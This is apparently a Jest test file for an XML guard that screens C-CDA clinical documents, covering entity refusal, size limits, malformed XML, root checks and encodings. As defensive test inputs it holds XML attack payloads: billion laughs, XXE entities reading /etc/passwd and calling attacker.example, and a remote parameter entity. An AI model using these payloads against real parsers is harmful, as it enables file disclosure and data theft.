import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { XMLValidator } from 'fast-xml-parser';
import { FhirError } from '@phr/common';
import { readCcdaXml } from './ccda-xml';
import { DEFAULT_XML_LIMITS, guardXml, xmlCharset, type XmlGuardLimits } from './xml-guard';

const EXAMPLES = join(__dirname, '..', '..', '..', 'fixtures', 'ccda-examples');
const examples = readdirSync(EXAMPLES).filter((name) => name.endsWith('.xml'));

const utf8 = (s: string) => Buffer.from(s, 'utf8');
/** A minimal C-CDA: the declaration, then `prolog`, then the root holding `body`. */
const cda = (body = '', prolog = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>\n${prolog}<ClinicalDocument xmlns="urn:hl7-org:v3">${body}</ClinicalDocument>`;

function refusal(xml: string | Uint8Array, limits: XmlGuardLimits = DEFAULT_XML_LIMITS): FhirError {
  try {
    guardXml(typeof xml === 'string' ? utf8(xml) : xml, limits);
  } catch (error) {
    if (error instanceof FhirError) return error;
    throw error;
  }
  throw new Error('the guard accepted the document');
}

/** Status, issue code and diagnostics of a refusal, for one `toMatchObject`. */
function refused(xml: string | Uint8Array, limits?: XmlGuardLimits) {
  const error = refusal(xml, limits);
  return { status: error.status, code: error.issues[0]?.code, diagnostics: error.issues[0]?.diagnostics ?? '' };
}

function timed<T>(run: () => T): { result: T; ms: number } {
  const start = performance.now();
  const result = run();
  return { result, ms: performance.now() - start };
}

/** Times are printed, not asserted tightly: speed is the benchmarks' business, these bounds only catch a blow-up. */
function report(what: string, ms: number): void {
  process.stdout.write(`xml-guard: ${what}: ${ms.toFixed(1)} ms\n`);
}

const DTD_REFUSED = /DTDs and entity declarations are not accepted/;

describe('guardXml: real C-CDA documents', () => {
  it('has the 15 HL7 example documents to test with', () => {
    expect(examples).toHaveLength(15);
  });

  it.each(examples)('accepts %s, with its stylesheet PI, comments, schemaLocation and sdtc: names', (name) => {
    const bytes = readFileSync(join(EXAMPLES, name));
    const { result, ms } = timed(() => guardXml(bytes, DEFAULT_XML_LIMITS));
    expect(result.root).toEqual({ name: 'ClinicalDocument', namespace: 'urn:hl7-org:v3' });
    expect(result.text.startsWith('<?xml')).toBe(true);
    if (bytes.length > 200_000) report(`${name} (${Math.round(bytes.length / 1024)} KiB)`, ms);
  });

  it('checks a 10 MB C-CDA in linear time', () => {
    const ccd = readFileSync(join(EXAMPLES, 'Transfer_Summary.xml'), 'utf8');
    const open = ccd.indexOf('<structuredBody>') + '<structuredBody>'.length;
    const close = ccd.indexOf('</structuredBody>');
    const sections = ccd.slice(open, close);
    const big = utf8(ccd.slice(0, close) + sections.repeat(Math.ceil(10e6 / sections.length)) + ccd.slice(close));
    guardXml(big, DEFAULT_XML_LIMITS); // warm-up: the first call compiles
    const { result, ms } = timed(() => guardXml(big, DEFAULT_XML_LIMITS));
    expect(result.root.name).toBe('ClinicalDocument');
    report(`${(big.length / 1e6).toFixed(1)} MB C-CDA`, ms);
    expect(ms).toBeLessThan(5000);
  });
});

describe('guardXml: DTDs and entities are refused before any parser runs', () => {
  it('refuses billion laughs', () => {
    const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('\n');
    const xml = cda('&lol9;', `<!DOCTYPE ClinicalDocument [\n<!ENTITY lol0 "lol">\n${lols}\n]>\n`);
    expect(refused(xml)).toMatchObject({
      status: 400,
      code: 'security',
      diagnostics: expect.stringMatching(DTD_REFUSED),
    });
    expect(refused(xml).diagnostics).toMatch(/^a DOCTYPE declaration at line 2, column 1: .*XXE.*expand entities/);
  });

  it('refuses a quadratic blow-up (one large entity referenced many times)', () => {
    const xml = `<!DOCTYPE ClinicalDocument [<!ENTITY big "${'x'.repeat(100_000)}">]>${cda('&big;'.repeat(100_000))}`;
    expect(refused(xml)).toMatchObject({ status: 400, code: 'security' });
  });

  it.each([
    ['a file', '<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'],
    ['a URL', '<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "http://attacker.example/steal">]>'],
    [
      'a public identifier',
      '<!DOCTYPE ClinicalDocument [<!ENTITY xxe PUBLIC "-//X//EN" "http://attacker.example/x">]>',
    ],
  ])('refuses an external entity (XXE) naming %s', (_, doctype) => {
    expect(refused(cda('<title>&xxe;</title>', doctype))).toMatchObject({
      status: 400,
      code: 'security',
      diagnostics: expect.stringMatching(DTD_REFUSED),
    });
  });

  it('refuses parameter entities', () => {
    const doctype =
      '<!DOCTYPE ClinicalDocument [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>';
    expect(refused(cda('', doctype))).toMatchObject({ status: 400, code: 'security' });
  });

  it('refuses an external DTD with no internal subset', () => {
    expect(refused(cda('', '<!DOCTYPE ClinicalDocument SYSTEM "x.dtd">\n'))).toMatchObject({
      status: 400,
      code: 'security',
      diagnostics: expect.stringMatching(/^a DOCTYPE declaration at line 2, column 1/),
    });
  });

  it('finds a DOCTYPE behind comments and processing instructions, and in any letter case', () => {
    const prolog =
      '<?xml-stylesheet type="text/xsl" href="CDA.xsl"?>\n<!-- a\nlong\ncomment -->\n<?pi x?> <!doctype x>';
    expect(refused(cda('', prolog))).toMatchObject({
      status: 400,
      code: 'security',
      diagnostics: expect.stringMatching(/^a DOCTYPE declaration at line 6, column 10/),
    });
  });

  it('refuses entity, element and attribute-list declarations wherever they stand outside comments and CDATA', () => {
    for (const declaration of [
      '<!ENTITY a "b">',
      '<!ENTITY % p "q">',
      '<!ELEMENT a ANY>',
      '<!ATTLIST a b CDATA "c">',
    ]) {
      expect(refused(cda(`<title>${declaration}</title>`))).toMatchObject({ status: 400, code: 'security' });
      expect(refused(cda('', declaration))).toMatchObject({ status: 400, code: 'security' });
    }
    expect(refused(cda('', '<?pi <!DOCTYPE x [<!ENTITY a "b">]> ?>'))).toMatchObject({ code: 'security' });
  });

  it('accepts a DOCTYPE or ENTITY that is only the text of a comment or a CDATA section', () => {
    const body =
      '<!-- <!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]> -->' +
      '<text><![CDATA[<!DOCTYPE x><!ENTITY % p "q"> &undefined;]]></text>';
    expect(
      guardXml(utf8(cda(body, '<!-- <!DOCTYPE ClinicalDocument SYSTEM "x.dtd"> -->')), DEFAULT_XML_LIMITS).root,
    ).toEqual({
      name: 'ClinicalDocument',
      namespace: 'urn:hl7-org:v3',
    });
  });

  it('refuses an undefined entity such as &nbsp; with its line and column', () => {
    expect(refused(cda('\n<title>Dr&nbsp;Who</title>'))).toMatchObject({
      status: 400,
      code: 'structure',
      diagnostics: expect.stringMatching(/line 3, column 10: the entity &nbsp; is not defined: .*&#160;/),
    });
    expect(refused(cda('<id root="a&reg;b"/>')).diagnostics).toMatch(
      /line 2, column 53: the entity &reg; is not defined/,
    );
  });

  it('accepts the five predefined entities and references to XML characters', () => {
    const body = '<title a="&quot;&apos;">&lt;&gt;&amp; &#123;&#x1F;&#x1F600;&#xa;&#9;&#65533;</title>';
    // &#x1F; names no XML character, so it is the one left out here
    expect(() => guardXml(utf8(cda(body.replace('&#x1F;', ''))), DEFAULT_XML_LIMITS)).not.toThrow();
  });

  it.each(['&#0;', '&#x1F;', '&#xD800;', '&#xFFFE;', '&#x110000;', '&#99999999999;', '&#X41;', '&#x;', '&#12a;'])(
    'refuses the character reference %s',
    (reference) => {
      expect(refused(cda(`<title>${reference}</title>`))).toMatchObject({
        status: 400,
        code: 'structure',
        diagnostics: expect.stringMatching(/line 2, column 49: the character reference .* names no XML character/),
      });
    },
  );

  it('refuses an ampersand that starts no reference', () => {
    expect(refused(cda('<title>A & B</title>')).diagnostics).toMatch(/line 2, column 51: an `&` that starts no entity/);
    expect(refused(cda('<title>&amp</title>')).diagnostics).toMatch(/an `&` that starts no entity/);
  });
});

describe('guardXml: size limits, counted in the same scan', () => {
  it('refuses 1,000,000 nested elements in milliseconds, without recursion', () => {
    const deep = utf8(
      `<ClinicalDocument xmlns="urn:hl7-org:v3">${'<a>'.repeat(1_000_000)}${'</a>'.repeat(1_000_000)}</ClinicalDocument>`,
    );
    const { result: error, ms } = timed(() => refused(deep));
    expect(error).toMatchObject({
      status: 400,
      code: 'too-costly',
      diagnostics: expect.stringMatching(/nest deeper than 64 levels at line 1, column 231.*maxDepth 64/),
    });
    report('1,000,000-deep document refused', ms);
    expect(ms).toBeLessThan(1000);
  });

  it('allows exactly maxDepth levels', () => {
    const nested = (n: number) => cda('<a>'.repeat(n - 2) + '<b/>' + '</a>'.repeat(n - 2));
    expect(() => guardXml(utf8(nested(64)), DEFAULT_XML_LIMITS)).not.toThrow();
    expect(refused(nested(65))).toMatchObject({ code: 'too-costly' });
  });

  it('refuses more elements and attributes than maxNodes', () => {
    const limits = { maxDepth: 64, maxNodes: 11 };
    expect(() => guardXml(utf8(cda('<id a="1" b="2"/>'.repeat(3))), limits)).not.toThrow(); // 1 + 1 (xmlns) + 3 × 3
    expect(refused(cda('<id a="1" b="2"/>'.repeat(3) + '<x/>'), limits)).toMatchObject({
      status: 400,
      code: 'too-costly',
      diagnostics: expect.stringMatching(/more than 11 elements and attributes .*maxNodes 11/),
    });
  });

  it('refuses more than 256 attributes on one element, which fast-xml-parser handles in worse than linear time', () => {
    const tag = (n: number) => `<id ${Array.from({ length: n }, (_, i) => `a${i}="x"`).join(' ')}/>`;
    expect(() => guardXml(utf8(cda(tag(256))), DEFAULT_XML_LIMITS)).not.toThrow();
    expect(refused(cda(tag(257)))).toMatchObject({
      status: 400,
      code: 'too-costly',
      diagnostics: expect.stringMatching(/^the start tag <id> has more than 256 attributes \(line 2, column \d+\)/),
    });
  });
});

describe('guardXml: malformed XML', () => {
  it('says where an unclosed tag is', () => {
    expect(refused(cda('\n  <component>\n    <section>\n  </component>\n'))).toEqual({
      status: 400,
      code: 'structure',
      diagnostics:
        'the document is not well-formed XML: line 5, column 3: the end tag </component> does not close <section> ' +
        '(line 4, column 5)',
    });
  });

  it('refuses mismatched tags', () => {
    expect(refused(cda('<title>x</name>')).diagnostics).toMatch(
      /line 2, column 50: the end tag <\/name> does not close <title> \(line 2, column 42\)$/,
    );
    expect(refused(`${cda()}</x>`).diagnostics).toMatch(/line 2, column 61: the end tag <\/x> closes no element/);
  });

  it('refuses a document that ends inside its root', () => {
    expect(refused('<ClinicalDocument xmlns="urn:hl7-org:v3"><title>').diagnostics).toMatch(
      /line 1, column 49: the document ends before <title> \(line 1, column 42\) is closed$/,
    );
  });

  it('refuses invalid names and repeated attributes, with line and column', () => {
    expect(refused(cda('\n<id root="1" root="2"/>'))).toEqual({
      status: 400,
      code: 'structure',
      diagnostics: 'the document is not well-formed XML: line 3, column 14: the attribute root is given twice in <id>',
    });
    expect(refused(cda('<1d/>')).diagnostics).toMatch(/line 2, column 43: "1d" is not a valid element name$/);
    expect(refused(cda('<id -x="1"/>')).diagnostics).toMatch(/line 2, column 46: "-x" is not a valid attribute name$/);
    expect(refused(cda('<·a/>')).diagnostics).toMatch(/not a valid element name/);
    // Between a tag's parts only XML's whitespace: a no-break or ideographic space is no separator.
    for (const space of ['\u00a0', '\u3000', '\u2028']) {
      expect(refused(cda(`<id${space}root="1"/>`)).code).toBe('structure');
      expect(refused(cda(`<id root="1"${space}/>`)).code).toBe('structure');
      expect(refused(cda(`<id root="1"${space}extension="2"/>`)).code).toBe('structure');
    }
    // XML 1.0 names: letters of any script, a prefix's colon, and digits, `-`, `.` and `·` after the first.
    expect(() => guardXml(utf8(cda('<sdtc:raceCode é-1.x·="v" a:b="w"/><名前/>')), DEFAULT_XML_LIMITS)).not.toThrow();
  });

  it('refuses every mutation of a real document that fast-xml-parser’s validator or the reader refuses', () => {
    // The scan replaced a second pass of that validator: it must stay at least as strict. (One
    // difference is deliberate and left out here: XML allows names with characters above U+FFFF,
    // which the validator refuses.) And what it lets through, the reader (saxes, strict XML 1.0)
    // must read: a document it passes never fails later as unreadable.
    const original = readFileSync(join(EXAMPLES, 'Diagnostic_Imaging_Report.xml'), 'utf8');
    const pieces = [
      '<',
      '>',
      '/',
      '=',
      '"',
      "'",
      '&',
      '!',
      '?',
      '-',
      ':',
      ' ',
      '1',
      'a',
      '.',
      ';',
      '#',
      'é',
      '·',
      '\u00a0',
      '\u3000',
      ']]>',
      '--',
      '<a>',
      '</a>',
      ' x="1"',
      ' root="x"',
      '&#0;',
      '&#x41;',
      '<!--',
      '<![CDATA[',
      '?>',
      '<?x ?>',
      '<? x?>',
      '<?1x?>',
      '<?x=1?>',
      '<!---->',
      '<!-- - -->',
    ];
    let seed = 20261206;
    const next = (n: number) => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed % n;
    };
    let validatorRefused = 0;
    let guardAccepted = 0;
    for (let i = 0; i < 1500; i++) {
      let text = original;
      for (let edit = 0; edit <= next(2); edit++) {
        const lt = text.indexOf('<', next(text.length));
        const at = lt !== -1 && next(3) > 0 ? lt + next(20) : next(text.length);
        const piece = pieces[next(pieces.length)] ?? '';
        const op = next(3);
        text = text.slice(0, at) + (op === 0 ? '' : piece) + text.slice(at + (op === 1 ? 0 : 1 + next(3)));
      }
      const guarded = (() => {
        try {
          return guardXml(utf8(text), DEFAULT_XML_LIMITS).text;
        } catch (error) {
          if (error instanceof FhirError) return undefined;
          throw error;
        }
      })();
      const verdict = XMLValidator.validate(text, { allowBooleanAttributes: false });
      if (verdict !== true) validatorRefused++;
      if (guarded === undefined) continue;
      if (verdict !== true) throw new Error(`the scan accepted what the validator refused: ${verdict.err.msg}`);
      guardAccepted++;
      expect(() => readCcdaXml(guarded)).not.toThrow();
    }
    expect(validatorRefused).toBeGreaterThan(500);
    expect(guardAccepted).toBeGreaterThan(300);
  });

  it('refuses `--` inside a comment, `]]>` in text and a processing instruction without a valid target', () => {
    expect(refused(cda('<!-- a -- b -->')).diagnostics).toMatch(/line 2, column 49: `--` inside a comment/);
    expect(refused(cda('<!-- a --->')).diagnostics).toMatch(/`--` inside a comment/);
    expect(refused(cda('<title>a ]]> b</title>')).diagnostics).toMatch(
      /line 2, column 51: `]]>` in text, where XML allows it only to end a CDATA section/,
    );
    expect(refused(cda('<? x?>')).diagnostics).toMatch(/line 2, column 42: a processing instruction without a target/);
    expect(refused(cda('<?1x?>')).diagnostics).toMatch(/"1x" is not a valid processing instruction name/);
    expect(refused(cda('<?x=1?>')).diagnostics).toMatch(/"x=1" is not a valid processing instruction name/);
    for (const declaration of [
      '<?xml version="1.0" standalone="yes" encoding="UTF-8"?>',
      '<?xml version="1.0"encoding="UTF-8"?>',
      '<?xml encoding="UTF-8"?>',
      '<?xml version="1.0" x="1"?>',
      '<?XML version="1.0"?>',
    ]) {
      expect(refused(`${declaration}<ClinicalDocument xmlns="urn:hl7-org:v3"/>`).diagnostics).toMatch(
        /line 1, column 1: a malformed XML declaration/,
      );
    }
    expect(refused('<?xml version="1.1"?><ClinicalDocument xmlns="urn:hl7-org:v3"/>').diagnostics).toMatch(
      /XML version 1.1: only XML 1.0 is accepted/,
    );
    expect(() =>
      guardXml(
        utf8(`<?xml version = '1.0'  encoding="utf-8" standalone='no' ?>\n<ClinicalDocument xmlns="urn:hl7-org:v3"/>`),
        DEFAULT_XML_LIMITS,
      ),
    ).not.toThrow();
    for (const fine of ['<!---->', '<!-- - a-b -->', '<![CDATA[ ]] > ]]>', '<?x?>', '<?x-y data?>']) {
      expect(() => guardXml(utf8(cda(fine)), DEFAULT_XML_LIMITS)).not.toThrow();
    }
  });

  it('refuses two roots, text after the root and text before it', () => {
    expect(refused(`${cda()}\n<ClinicalDocument xmlns="urn:hl7-org:v3"/>`).diagnostics).toMatch(
      /line 3, column 1: a second root element <ClinicalDocument>/,
    );
    expect(refused(`${cda()}\ntrailing`).diagnostics).toMatch(/line 3, column 1: text after the root element/);
    expect(() => guardXml(utf8(`${cda()}\n<!-- fine --> <?fine?>\n`), DEFAULT_XML_LIMITS)).not.toThrow();
    expect(refused(`hello ${cda()}`).diagnostics).toMatch(/line 1, column 1: text before the root element/);
  });

  it('refuses an empty body, a boolean attribute, `<` in an attribute and a misplaced XML declaration', () => {
    expect(refused('').diagnostics).toMatch(/there is no root element/);
    expect(refused('  <!-- only a comment -->').diagnostics).toMatch(/there is no root element/);
    expect(refused(cda('<id nullFlavor/>')).diagnostics).toMatch(/line 2, column 46: a malformed attribute/);
    expect(refused(cda('<id root="a<b"/>')).diagnostics).toMatch(/line 2, column 53: a `<` in the value/);
    expect(refused(` ${cda()}`).diagnostics).toMatch(
      /line 1, column 2: an XML declaration is allowed only at the very start/,
    );
  });

  it('refuses element names the converter’s parser would throw on', () => {
    expect(refused(cda('<__proto__/>'))).toMatchObject({ status: 400, code: 'structure' });
  });
});

describe('guardXml: the root element', () => {
  it('answers 415 for FHIR XML, pointing at FHIR JSON', () => {
    expect(refused('<?xml version="1.0"?><Patient xmlns="http://hl7.org/fhir"><id value="1"/></Patient>')).toEqual({
      status: 415,
      code: 'not-supported',
      diagnostics:
        'the root element is `Patient` (namespace http://hl7.org/fhir): FHIR XML is not accepted; ' +
        'post FHIR R4 JSON (application/fhir+json) to /fhir, and only C-CDA documents here',
    });
    expect(refused('<f:Bundle xmlns:f="http://hl7.org/fhir"/>').status).toBe(415);
  });

  it('answers 400 naming a root that is not ClinicalDocument in the HL7 v3 namespace', () => {
    expect(refused('<Patient xmlns="urn:hl7-org:v3"/>')).toEqual({
      status: 400,
      code: 'invalid',
      diagnostics:
        'the root element is `Patient` (namespace urn:hl7-org:v3), not an HL7 CDA ClinicalDocument (namespace urn:hl7-org:v3)',
    });
    expect(refused('<ClinicalDocument/>').diagnostics).toMatch(/`ClinicalDocument` \(no namespace\), not an HL7 CDA/);
    expect(refused('<ClinicalDocument xmlns="urn:other"/>').diagnostics).toMatch(/\(namespace urn:other\)/);
  });

  it('reads a prefixed root', () => {
    expect(guardXml(utf8('<cda:ClinicalDocument xmlns:cda="urn:hl7-org:v3"/>'), DEFAULT_XML_LIMITS).root).toEqual({
      name: 'ClinicalDocument',
      namespace: 'urn:hl7-org:v3',
    });
  });
});

describe('guardXml: encodings', () => {
  const document = cda('<title>Müller – 漢字 😀</title>').replace('UTF-8', 'UTF-16');

  it('accepts UTF-16 with a byte-order mark, little- or big-endian, and UTF-8 with or without one', () => {
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(document, 'utf16le')]);
    const be = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(document, 'utf16le').swap16()]);
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(cda())]);
    for (const bytes of [le, be]) {
      const guarded = guardXml(bytes, DEFAULT_XML_LIMITS);
      expect(guarded.text).toBe(document);
      expect(guarded.root.name).toBe('ClinicalDocument');
    }
    expect(guardXml(bom, DEFAULT_XML_LIMITS).text).toBe(cda());
  });

  it('reads a document in the Latin single-byte encoding its declaration names (ISO-8859-1, Windows-1252, ...)', () => {
    const text = (encoding: string) => cda('<title>Müller – 5 €</title>').replace('UTF-8', encoding);
    // ISO-8859-1 has no dash or euro sign: such a sender writes Windows-1252, as WHATWG reads both labels.
    for (const encoding of ['ISO-8859-1', 'windows-1252', 'latin1', 'cp1252']) {
      const bytes = Buffer.from(text(encoding).replace('–', '\u0096').replace('€', '\u0080'), 'latin1');
      expect(guardXml(bytes, DEFAULT_XML_LIMITS).text).toBe(text(encoding));
    }
    const latin9 = Buffer.from(cda('<title>Müller</title>').replace('UTF-8', 'ISO-8859-15'), 'latin1');
    expect(guardXml(latin9, DEFAULT_XML_LIMITS).text).toContain('<title>Müller</title>');
  });

  it('names the charset the bytes need beside text/xml: none for UTF-8', () => {
    expect(xmlCharset(utf8(cda()))).toBeUndefined();
    expect(xmlCharset(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(cda())]))).toBeUndefined();
    expect(xmlCharset(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(cda(), 'utf16le')]))).toBe('utf-16');
    // by the name the bytes were read in: WHATWG reads ISO-8859-1 as Windows-1252
    expect(xmlCharset(Buffer.from(cda().replace('UTF-8', 'ISO-8859-1'), 'latin1'))).toBe('windows-1252');
    expect(xmlCharset(Buffer.from(cda().replace('UTF-8', 'cp1252'), 'latin1'))).toBe('windows-1252');
    expect(xmlCharset(Buffer.from(cda().replace('UTF-8', 'l9'), 'latin1'))).toBe('iso-8859-15');
  });

  it('refuses UTF-8 bytes that say they are Latin-1, and a Latin declaration beside a byte-order mark', () => {
    const mislabelled = utf8(cda('<title>Müller</title>').replace('UTF-8', 'ISO-8859-1'));
    expect(refused(mislabelled)).toMatchObject({
      status: 400,
      code: 'structure',
      diagnostics: expect.stringMatching(/names ISO-8859-1, but the document's bytes are UTF-8/),
    });
    // all ASCII: the same text in either
    expect(
      guardXml(utf8(cda('<title>Muller</title>').replace('UTF-8', 'ISO-8859-1')), DEFAULT_XML_LIMITS).text,
    ).toContain('Muller');
    const text = cda().replace('UTF-8', 'ISO-8859-1');
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    expect(refused(le).diagnostics).toMatch(
      /names the encoding ISO-8859-1, but the document begins with a UTF-16 byte-order mark/,
    );
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(text)]);
    expect(refused(bom).diagnostics).toMatch(/begins with a UTF-8 byte-order mark/);
  });

  it('refuses a declared encoding it does not read', () => {
    expect(refused(cda().replace('UTF-8', 'Shift_JIS'))).toMatchObject({
      status: 400,
      code: 'not-supported',
      diagnostics: expect.stringMatching(/names the encoding Shift_JIS: UTF-8, UTF-16, ISO-8859-1/),
    });
    expect(refused("<?xml version='1.0' encoding='EBCDIC-CP-US'?><ClinicalDocument/>").status).toBe(400);
  });

  it('refuses bytes that are not UTF-8 (a Latin-1 document that does not say so), and UTF-16 that is broken', () => {
    const latin1 = Buffer.from(cda('<title>Müller</title>'), 'latin1');
    expect(refused(latin1)).toMatchObject({
      status: 400,
      code: 'structure',
      diagnostics: expect.stringMatching(/not valid UTF-8 \(a document in ISO-8859-1 or Windows-1252 must say so/),
    });
    const loneSurrogate = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('<a>', 'utf16le'),
      Buffer.from([0x00, 0xd8]),
    ]);
    expect(refused(loneSurrogate).diagnostics).toMatch(/not valid UTF-16LE/);
  });

  it('refuses characters XML forbids, such as NUL or UTF-16 sent without a byte-order mark', () => {
    expect(refused(cda('<title>a\u0000b</title>')).diagnostics).toMatch(/line 2, column 50: the character U\+0000/);
    expect(refused(Buffer.from(cda(), 'utf16le')).diagnostics).toMatch(
      /line 1, column 2: the character U\+0000 is not allowed in XML \(UTF-16 must start with a byte-order mark\)/,
    );
  });
});
